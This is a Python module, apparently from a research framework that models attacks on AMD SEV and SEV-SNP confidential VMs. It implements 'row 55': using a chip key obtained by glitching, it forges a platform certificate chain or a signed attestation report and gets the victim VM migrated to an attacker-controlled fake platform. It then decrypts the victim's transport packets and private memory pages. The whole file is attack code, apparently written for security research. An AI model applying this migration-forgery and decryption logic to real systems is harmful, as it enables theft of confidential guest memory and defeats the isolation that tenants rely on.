"""The victim is to move to a platform that there is not, whose keys are the attacker's (row 55).

Of a chip that somebody has opened the CEK is known (A-01, A-02); it vouches for platforms of the older interface. SNP's
migration agents look at a report, which no CEK signs: an extracted VCEK is what row 52 is about.
"""

from __future__ import annotations

import hashlib
from collections.abc import Generator
from dataclasses import replace

from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.kdf.hkdf import HKDF
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from node.migration_agent import MARK, Hello
from node.operations import Answer, HostRead, HostWrite
from node.vm_state import VmState
from psp import command_buffers as buffers
from psp.attestation_report import AttestationReport, signed
from psp.chip_identity import ChipIdentity
from psp.commands import LegacyCommand
from psp.exported_context import ExportedContext
from psp.page_swap import MdataEntry
from psp.product_line import PRODUCT_LINES
from psp.secret_packet import PacketHeader
from psp.sev_certificate import CertificateError, SevCertificate
from psp.sev_chain import PlatformChain
from psp.sev_session import Session, SessionError, counter_mode
from psp.system_bus import PAGE_BYTES
from workloads.attacks.chip_operations import GlitchChip
from workloads.attacks.claims import WorkedOut
from workloads.attacks.firmware_call import Bytes, FirmwareCall
from workloads.attacks.forged_platform import ForgedPlatform
from workloads.attacks.move_operations import Agree, KeepPlace, TakeOut
from workloads.attacks.owner_operations import AskForCertificates
from workloads.attacks.small_sev_guest import SmallSevGuest
from workloads.attacks.stream import opened
from workloads.attacks.target import LET_IT_RUN, Attack, AttackBatch, Target
from workloads.attacks.undefended import by_generation

_ANY_LINE = PRODUCT_LINES["Milan"]
"""A CEK is derived alike on all lines."""
_OWN = X25519PrivateKey.from_private_bytes(hashlib.sha256(b"an attacker's agent").digest())
_NAME_BYTES = 32


def _cek() -> Generator[AttackBatch, tuple[Answer, ...], ec.EllipticCurvePrivateKey]:
    """The chip's, where somebody has shown how to get it; else one that is made up."""
    (fuses,) = yield (GlitchChip(),)
    known = fuses if isinstance(fuses, bytes) else hashlib.sha256(b"no chip's fuses").digest()
    return ChipIdentity(_ANY_LINE, lambda: known).cek_key()


def _send_to_fake(target: Target) -> Attack:
    """SEND_START for a platform of one's own, SEND_UPDATE_DATA, and unwrap the packet."""
    victim, call = target.victim, FirmwareCall.of(target)
    cek = yield from _cek()
    shown = yield from SmallSevGuest.of(target).platform()
    (certificates,) = yield (AskForCertificates(shown.pdh, shown.chain),)
    if not isinstance(certificates, bytes):
        return
    size = SevCertificate.SIZE
    chain, amd = certificates[: 3 * size], certificates[3 * size :]
    fake = ForgedPlatform(cek, PlatformChain.parse(shown.pdh, chain))
    platform = fake.certificates()
    pdh_at, chain_at, _, amd_at, session_at = target.spare[:5]
    yield (HostWrite(pdh_at, platform.pdh), HostWrite(chain_at, platform.chain), HostWrite(amd_at, amd))
    start = buffers.SendStart(
        victim.handle, 0, pdh_at, size, chain_at, 3 * size, amd_at, len(amd), session_at, Session.SIZE
    )
    started = yield from call.told(LegacyCommand.SEND_START, start, (session_at,))
    if not started:
        return
    (session,) = yield (HostRead(session_at, Session.SIZE),)
    packet = yield from packet_of(target, victim.secret.spa)
    try:
        assert isinstance(session, bytes)
        keys = fake.agreed(shown.pdh, session, buffers.SendStart.parse(started).policy)
    except (CertificateError, SessionError):
        return
    header = PacketHeader.parse(packet[: PacketHeader.SIZE])
    yield (WorkedOut(counter_mode(keys.tek, header.iv, packet[PacketHeader.SIZE :])),)


def packet_of(target: Target, spa: int) -> Bytes:
    """SEND_UPDATE_DATA of one of the victim's pages: its header and its ciphertext."""
    header, transport = target.spare[:2]
    update = buffers.SendUpdate(
        target.victim.handle, header, PacketHeader.SIZE, spa, PAGE_BYTES, transport, PAGE_BYTES
    )
    yield from FirmwareCall.of(target).told(LegacyCommand.SEND_UPDATE_DATA, update, (header, transport))
    read = yield (HostRead(header, PacketHeader.SIZE), HostRead(transport, PAGE_BYTES))
    return b"".join([one for one in read if isinstance(one, bytes)])


def _greet_as_fake(target: Target) -> Attack:
    """Be an agent with a key of one's own and a report that the CEK has signed; unwrap what the other one gives."""
    yield LET_IT_RUN
    cek = yield from _cek()
    (shown,) = yield (KeepPlace(),)
    if not isinstance(shown, bytes):
        return
    genuine = Hello.parse(shown)
    fake = replace(genuine, public_key=_OWN.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw))
    report = replace(AttestationReport.parse(genuine.report), report_data=fake.bound)
    fake = replace(fake, report=signed(report.pack(), cek))
    (answer,) = yield (Agree(fake.pack()),)
    if not isinstance(answer, bytes):
        return
    (stream,) = yield (TakeOut(),)
    if isinstance(stream, bytes):
        state = opened(target.victim, stream)
        context = _context(target.victim.vm, Hello.parse(answer).public_key, state.context)
        yield tuple(WorkedOut(page) for page in _pages(context, state))


def _context(vm: str, peer: bytes, sealed: bytes) -> ExportedContext:
    """What an agent has sealed for its peer."""
    name = sealed[:_NAME_BYTES]
    shared = _OWN.exchange(X25519PublicKey.from_public_bytes(peer))
    key = HKDF(SHA256(), _NAME_BYTES, name, MARK + vm.encode()).derive(shared)
    return ExportedContext.parse(AESGCM(key).decrypt(bytes(12), sealed[_NAME_BYTES:], vm.encode()))


def _pages(context: ExportedContext, state: VmState) -> list[bytes]:
    """All private pages: the Metadata pages from the root's down, and what their entries let one open."""
    entries = [MdataEntry.parse(context.root_mdata)]
    left = list(state.metadata)
    while left:
        level, left = left[-len(entries) :], left[: -len(entries)]
        opened_level = [_open(context, entry, page) for entry, page in zip(entries, level, strict=True)]
        found = [
            MdataEntry.parse(page[at : at + MdataEntry.SIZE])
            for page in opened_level
            for at in range(0, PAGE_BYTES, MdataEntry.SIZE)
        ]
        entries = [one for one in found if one.flags & MdataEntry.VALID]
    return [_open(context, entry, page) for entry, (_, _, page) in zip(entries, state.packets, strict=False)]


def _open(context: ExportedContext, entry: MdataEntry, sealed: bytes) -> bytes:
    try:
        return AESGCM(context.oek).decrypt(entry.nonce, sealed + entry.tag, entry.bound)
    except InvalidTag:
        return b""


move_to_fake = by_generation(_send_to_fake, _greet_as_fake)
"""Row 55: have the guest sealed for keys of one's own, and open it."""
